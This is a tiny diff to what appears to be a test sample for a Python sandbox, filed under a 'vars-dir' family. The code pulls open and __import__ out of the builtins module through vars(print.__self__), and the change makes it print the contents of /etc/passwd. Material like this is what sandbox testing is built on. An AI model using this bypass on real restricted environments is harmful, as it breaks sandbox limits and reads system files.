@@ -2,4 +2,4 @@
 # Family: vars-dir
 # What: vars(builtins module) returns its dict with open and __import__
 b = vars(print.__self__)
-b["open"]("/etc/passwd").read()
+print(b["open"]("/etc/passwd").read())
